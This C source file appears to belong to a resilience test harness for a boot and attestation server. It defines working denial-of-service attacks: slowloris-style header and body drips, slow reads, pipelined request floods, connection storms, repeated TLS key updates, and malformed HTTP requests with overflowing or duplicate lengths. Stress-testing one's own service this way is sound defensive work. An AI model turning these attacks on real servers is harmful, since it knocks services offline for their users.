/* SPDX-License-Identifier: Apache-2.0 */
/* The attacks: one act() each. */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char attest_head[] = "POST /v2/attest HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-muster\r\nContent-Length: 196608\r\n\r\n";

/* Sends script[0..n), `some` bytes each `ms`; when it is through: `end`. */
static int drip(struct conn *c, const char *script, size_t n, size_t some, int ms, int end)
{
        size_t left = n - c->sent;
        long k = left == 0 ? 0 : conn_write(c, script + c->sent, left < some ? left : some);

        if (k < 0)
                return AGAIN;
        c->sent += (size_t)k;
        return c->sent < n ? ms : end;
}

static int silent(struct conn *c, const struct target *t)
{
        (void)c;
        (void)t;
        return WHEN_READABLE;
}

/* A real ClientHello, made once. */
static size_t client_hello(char *ret, size_t n)
{
        static char hello[2048];
        static size_t len;

        if (len == 0) {
                SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
                SSL *ssl = SSL_new(ctx);
                BIO *out = BIO_new(BIO_s_mem());

                SSL_set_bio(ssl, BIO_new(BIO_s_mem()), out);
                (void)SSL_set_min_proto_version(ssl, TLS1_3_VERSION);
                (void)SSL_connect(ssl);
                len = (size_t)BIO_read(out, hello, sizeof(hello));
                SSL_free(ssl);
                SSL_CTX_free(ctx);
        }
        memcpy(ret, hello, len < n ? len : n);
        return len < n ? len : n;
}

static int hello_drip(struct conn *c, const struct target *t)
{
        char hello[2048];
        size_t n = client_hello(hello, sizeof(hello));

        (void)t;
        return drip(c, hello, n, 1, 1000, WHEN_READABLE);
}

static int hello_half(struct conn *c, const struct target *t)
{
        char hello[2048];
        size_t n = client_hello(hello, sizeof(hello));

        (void)t;
        return drip(c, hello, n, n, 1000, WHEN_READABLE);
}

static int header_drip(struct conn *c, const struct target *t)
{
        char head[4096];
        int n = snprintf(head, sizeof(head), "GET /ipxe HTTP/1.1\r\nX-Slow: ");

        (void)t;
        memset(head + n, 'a', sizeof(head) - (size_t)n);
        return drip(c, head, sizeof(head), 1, 2000, WHEN_READABLE);
}

static int drip_body(struct conn *c, int ms)
{
        static char script[4096];

        memset(script, ' ', sizeof(script));
        memcpy(script, attest_head, sizeof(attest_head) - 1);
        return drip(c, script, sizeof(script), c->sent == 0 ? sizeof(attest_head) - 1 : 1, ms, WHEN_READABLE);
}

static int body_drip(struct conn *c, const struct target *t)
{
        (void)t;
        return drip_body(c, 1000);
}

/* Never silent for as long as the door would take it for stalled. */
static int body_trickle(struct conn *c, const struct target *t)
{
        (void)t;
        return drip_body(c, 50);
}

/* All of the largest body but its last byte. */
static int body_hoard(struct conn *c, const struct target *t)
{
        static char script[sizeof(attest_head) - 1 + 196608];

        (void)t;
        if (script[0] == 0) {
                memset(script, ' ', sizeof(script));
                memcpy(script, attest_head, sizeof(attest_head) - 1);
        }
        return drip(c, script, sizeof(script) - 1, 65536, 10, WHEN_READABLE);
}

static int slow_read(struct conn *c, const struct target *t)
{
        char ask[512];
        char byte;
        int n = snprintf(ask, sizeof(ask), "GET %s HTTP/1.1\r\nHost: x\r\n\r\n", t->path);

        if (c->step++ == 0)
                return conn_write(c, ask, (size_t)n) < 0 ? AGAIN : 1000;
        return conn_read(c, &byte, 1) < 0 ? AGAIN : 1000;
}

/* A thousand requests in one write, then another thousand. */
static int pipeline(struct conn *c, const struct target *t)
{
        static const char one[] = "GET /ipxe HTTP/1.1\r\nHost: x\r\n\r\n";
        static char script[1000 * (sizeof(one) - 1)];
        long k;

        (void)t;
        if (script[0] == 0)
                for (size_t i = 0; i < 1000; i++)
                        memcpy(script + i * (sizeof(one) - 1), one, sizeof(one) - 1);
        k = conn_write(c, script + c->sent, sizeof(script) - c->sent);
        if (k < 0)
                return AGAIN;
        c->sent = (c->sent + (size_t)k) % sizeof(script);
        return 5;
}

static int leave(struct conn *c, const struct target *t)
{
        (void)c;
        (void)t;
        return AGAIN;
}

static int key_update(struct conn *c, const struct target *t)
{
        (void)t;
        for (int i = 0; i < 20; i++)
                if (SSL_key_update(c->ssl, SSL_KEY_UPDATE_REQUESTED) != 1 || SSL_do_handshake(c->ssl) != 1)
                        return AGAIN;
        return conn_write(c, "G", 1) < 0 ? AGAIN : 5;
}

/* Each of these on a connection of its own; `%` at the end: 64 KiB more of
 * the character before it. */
static const char *const odd[] = {
        "GET /%",
        "GET /ipxe HTTP/1.1\r\nHost: x\r\nX: y%",
        "GET /ipxe HTTP/1.1\r\nHost: x\r\n%",
        "GET /ipxe?%",
        "POST /v2/attest HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n%",
        "POST /ipxe HTTP/1.1\r\nHost: x\r\nContent-Length: 18446744073709551615\r\n\r\na%",
        "POST /ipxe HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\na%",
        "GET /ipxe HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\naa%",
        "GET http://x/ipxe HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /ipxe\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "\x16\x03\x01\x02\x01\x01\xfc\x03\x03%",
        "\r\n%",
        " %",
        "GET /ipxe HTTP/1.1\r\n Host: x\r\n folded: y\r\n\r\n",
};

static int odd_request(struct conn *c, const struct target *t)
{
        static unsigned which;
        static char script[66560];
        const char *s = odd[which++ % (sizeof(odd) / sizeof(odd[0]))];
        size_t n = strlen(s);

        (void)t;
        if (c->step++ > 0)
                return AGAIN;
        memcpy(script, s, n);
        if (s[n - 1] == '%') {
                n--;
                memset(script + n, script[n - 1], 65536);
                n += 65536;
        }
        return conn_write(c, script, n) < 0 ? AGAIN : 50;
}

static int nothing_good(struct conn *c, const struct target *t)
{
        static const char bad[] = "POST /v2/attest HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-muster\r\nContent-Length: 2\r\n\r\n{}";

        (void)t;
        return conn_write(c, bad, sizeof(bad) - 1) < 0 ? AGAIN : 20;
}

const struct attack attacks[] = {
        { "idle-boot", PLAIN, false, silent, "connects to the boot port, sends nothing" },
        { "idle-attest", RAW_TLS, false, silent, "connects to the attest port, sends nothing" },
        { "idle-tls", TLS, false, silent, "ends its handshake, sends no request" },
        { "hello-drip", RAW_TLS, false, hello_drip, "a ClientHello, a byte each second" },
        { "hello-half", RAW_TLS, false, hello_half, "a ClientHello, and no more" },
        { "header-drip", PLAIN, false, header_drip, "a header, a byte each two seconds" },
        { "header-drip-tls", TLS, false, header_drip, "the same over TLS" },
        { "body-drip", TLS, false, body_drip, "a body, a byte each second" },
        { "body-trickle", TLS, false, body_trickle, "the same, a byte each twentieth of a second" },
        { "body-hoard", TLS, false, body_hoard, "largest bodies that lack a byte" },
        { "slow-read", PLAIN, true, slow_read, "asks for a large file, reads a byte each second" },
        { "pipeline", PLAIN, false, pipeline, "a thousand requests in one write, without end" },
        { "storm", PLAIN, false, leave, "connects and leaves" },
        { "storm-tls", TLS, false, leave, "ends its handshake and leaves" },
        { "key-update", TLS, false, key_update, "TLS key updates" },
        { "odd", PLAIN, false, odd_request, "requests that are none" },
        { "odd-tls", TLS, false, odd_request, "the same over TLS" },
        { "malformed", TLS, false, nothing_good, "attest requests that are refused, each a reason for the journal" },
        { NULL, PLAIN, false, NULL, NULL },
};

const struct attack *attack_find(const char *name)
{
        for (const struct attack *a = attacks; a->name; a++)
                if (strcmp(a->name, name) == 0)
                        return a;
        return NULL;
}
